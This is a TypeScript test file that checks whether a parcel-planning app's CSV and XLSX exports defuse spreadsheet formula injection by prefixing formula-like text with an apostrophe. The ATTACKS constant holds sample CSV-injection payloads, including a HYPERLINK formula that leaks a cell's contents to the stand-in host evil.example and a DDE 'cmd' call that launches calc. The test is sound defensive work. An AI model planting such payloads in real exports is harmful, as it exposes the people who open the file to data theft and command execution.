/**
 * Exports are safe to open: a parcel and a target whose text starts like a
 * spreadsheet formula (= + - @ tab CR) come out of every CSV and XLSX export
 * prefixed with an apostrophe — the parcel CSV export, the report's target
 * CSV, the drill-down parcel CSV and the XLSX report (read back with
 * exceljs) — while numbers, negative ones included, stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { parseCsvText } from '../../domain/io/csv';
import { createApp } from '../../server/app';
import { createTestDatabase, type TestDatabase } from '../support/testDatabase';
import { addUsers } from '../support/users';
import { emptySpotInZone, loadSeedLayers } from '../support/places';
import { BASE, PLAN, planApi, targetDef } from '../api/planApi';

const ATTACKS = {
  name: '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  enterprise: "+cmd|' /C calc'!A0",
  notes: '@SUM(1+1)*cmd|x',
  labelZh: '-2+3+cmd|x',
  labelEn: '=SUM(A1:A9)',
};
const DEFUSED = (text: string) => `'${text}`;

let t: TestDatabase;
let app: ReturnType<typeof createApp>;
let api: ReturnType<typeof planApi>;
let auth: Awaited<ReturnType<typeof addUsers>>;
let parcelId: number;

beforeAll(async () => {
  t = await createTestDatabase();
  app = createApp(t.db);
  api = planApi(app);
  auth = await addUsers(t.db);
  const layers = await loadSeedLayers(async (p) => app.request(`${BASE}${p}`));
  const created = await app.request(`${BASE}/ogc/collections/parcels/items`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/geo+json', Authorization: auth.editor },
    body: JSON.stringify({
      type: 'Feature',
      geometry: emptySpotInZone(layers, 'A2'),
      properties: { name: ATTACKS.name, enterprise: ATTACKS.enterprise, notes: ATTACKS.notes, landUseCode: '100102', status: 'supplied', supplyYear: 2024, investmentYi: 3.5 },
    }),
  });
  expect(created.status).toBe(201);
  parcelId = (await created.json()).id;
  // A target whose labels are the attack, counting the parcel above (investment in A2).
  const target = await api.send('POST', `/api/plans/${PLAN}/targets`, auth.admin, targetDef('EVIL', { labelZh: ATTACKS.labelZh, labelEn: ATTACKS.labelEn, zoneCodes: ['A2'], metric: 'investment_yi', floor: 1 }));
  expect(target.status).toBe(201);
});
afterAll(async () => t.dispose());

const csvRows = async (path: string) => {
  const res = await api.get(path);
  expect(res.status).toBe(200);
  return parseCsvText((await res.text()).replace(/^\uFEFF/, ''), ',');
};

describe('every CSV and XLSX export defuses formula-like text', () => {
  it('parcel CSV export (GET /api/exports?format=csv): name, enterprise and notes', async () => {
    const table = await csvRows(`/api/exports?format=csv&ids=${parcelId}`);
    const row = table.rows[0]!.cells;
    const cell = (name: string) => row[table.header.indexOf(name)];
    expect(cell('name')).toBe(DEFUSED(ATTACKS.name));
    expect(cell('enterprise')).toBe(DEFUSED(ATTACKS.enterprise));
    expect(cell('notes')).toBe(DEFUSED(ATTACKS.notes));
    expect(cell('investmentYi')).toBe('3.5');
    // No cell of the file starts a formula.
    for (const r of table.rows) for (const c of r.cells) expect(c).not.toMatch(/^[=+@\t\r]/);
  });

  it('report target CSV and the drill-down parcel CSV', async () => {
    const targets = await csvRows(`/api/plans/${PLAN}/report.csv`);
    const evil = targets.rows.find((r) => r.cells[0] === 'EVIL')!.cells;
    expect(evil[1]).toBe(DEFUSED(ATTACKS.labelZh));
    expect(evil[2]).toBe(DEFUSED(ATTACKS.labelEn));
    const drill = await csvRows(`/api/plans/${PLAN}/report.csv?table=parcels&target=EVIL`);
    const mine = drill.rows.find((r) => r.cells[0] === String(parcelId))!.cells;
    expect(mine[1]).toBe(DEFUSED(ATTACKS.name));
    expect(mine[4]).toBe(DEFUSED(ATTACKS.enterprise));
  });

  it('XLSX report: text cells defused, figures still numeric cells', async () => {
    const res = await api.get(`/api/plans/${PLAN}/report.xlsx`);
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await res.arrayBuffer()) as any);
    const targets = wb.getWorksheet('指标 Targets')!;
    let evilRow: ExcelJS.Row | null = null;
    targets.eachRow((row) => {
      if (row.getCell(1).value === 'EVIL') evilRow = row;
    });
    expect(evilRow).not.toBeNull();
    expect(evilRow!.getCell(2).value).toBe(DEFUSED(ATTACKS.labelZh));
    expect(evilRow!.getCell(3).value).toBe(DEFUSED(ATTACKS.labelEn));
    expect(typeof evilRow!.getCell(6).value).toBe('number');
    const sheet = wb.getWorksheet('EVIL')!;
    const texts: string[] = [];
    let parcelRow: ExcelJS.Row | null = null;
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        if (typeof cell.value === 'string') texts.push(cell.value);
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      });
      if (row.getCell(1).value === parcelId) parcelRow = row;
    });
    expect(parcelRow!.getCell(2).value).toBe(DEFUSED(ATTACKS.name));
    expect(parcelRow!.getCell(5).value).toBe(DEFUSED(ATTACKS.enterprise));
    expect(typeof parcelRow!.getCell(10).value).toBe('number');
    for (const text of texts) expect(text).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('a defused parcel CSV imports back to the original text', async () => {
    const { readCsv } = await import('../../domain/io/csv');
    const res = await api.get(`/api/exports?format=csv&ids=${parcelId}`);
    const read = readCsv(new Uint8Array(await res.arrayBuffer()));
    expect(read.ok).toBe(true);
    if (read.ok) {
      expect(read.features[0]!.properties.name).toBe(ATTACKS.name);
      expect(read.features[0]!.properties.enterprise).toBe(ATTACKS.enterprise);
    }
  });
});
